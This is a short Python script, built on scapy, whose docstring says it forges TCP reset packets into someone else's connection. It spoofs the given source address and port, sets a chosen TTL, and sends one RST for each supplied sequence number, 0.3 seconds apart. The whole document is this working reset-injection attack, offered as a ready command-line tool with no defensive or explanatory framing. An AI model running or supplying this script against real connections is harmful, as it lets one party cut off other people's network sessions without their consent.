"""Forges RSTs into someone else's connection: src ADDR:SPORT -> DST:DPORT, one per SEQ, 0.3 s apart.
usage: forge_rsts.py SRC SPORT DST DPORT TTL SEQ [SEQ...]"""
import sys
import time

from scapy.all import IP, TCP, send

src, sport, dst, dport, ttl = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), int(sys.argv[5])
for seq in sys.argv[6:]:
    send(IP(src=src, dst=dst, ttl=ttl) / TCP(sport=sport, dport=dport, flags="R", seq=int(seq)), verbose=False)
    time.sleep(0.3)
